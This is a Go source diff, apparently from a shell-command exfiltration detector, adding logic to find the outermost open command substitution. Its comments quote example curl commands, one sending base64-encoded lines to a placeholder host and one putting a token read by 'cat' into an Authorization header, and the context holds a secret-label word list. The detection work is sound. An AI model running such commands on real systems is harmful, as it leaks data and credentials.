@@ -250,3 +250,40 @@ func init() {
 // proseCargoStems57: words every round-57 proseSecretRe match holds one
 // of, let through checkExfilProse's word filter.
 var proseCargoStems57 = []string{"marked", "labeled", "labelled", "tagged", "flagged", "stamped", "classified", "internal", "decrypted", "unencrypted", "deciphered"}
+
+// Round 57 (exfil-flow): a flag inside a command substitution belongs to
+// the command substituted, not to the network command around it. In
+// curl "https://host/p?x=$(echo -n "$line" | base64)" the -n is echo's
+// (no newline), not curl's --netrc: the value is sent as request data,
+// encoded, and is in no position that authenticates. What the
+// substitution's output stands beside is read before its "$(" (curl -H
+// "Authorization: Bearer $(cat token)" is still a header).
+//
+// outerSubstOpen57: the offset of the outermost "$(" left open at the
+// end of before, or len(before) when none is.
+func outerSubstOpen57(before string) int {
+	if !strings.Contains(before, "$(") {
+		return len(before)
+	}
+	var open []int // offsets of "(" still open; -1 for a plain one
+	for i := 0; i < len(before); i++ {
+		switch before[i] {
+		case '(':
+			if i > 0 && before[i-1] == '$' {
+				open = append(open, i-1)
+			} else {
+				open = append(open, -1)
+			}
+		case ')':
+			if len(open) > 0 {
+				open = open[:len(open)-1]
+			}
+		}
+	}
+	for _, o := range open {
+		if o >= 0 {
+			return o
+		}
+	}
+	return len(before)
+}
